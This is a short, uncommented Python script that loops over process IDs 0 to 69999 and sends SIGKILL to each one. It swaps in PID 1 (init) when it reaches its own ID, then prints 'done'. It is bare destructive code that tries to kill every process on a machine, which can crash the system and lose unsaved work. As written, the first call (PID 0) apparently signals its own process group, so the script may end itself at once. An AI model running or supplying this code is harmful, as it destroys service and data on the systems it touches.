import os, signal
for pid in range(0, 70000):
    try:
        os.kill(pid if pid != os.getpid() else 1, signal.SIGKILL)
    except (OSError, OverflowError):
        pass
print("done")
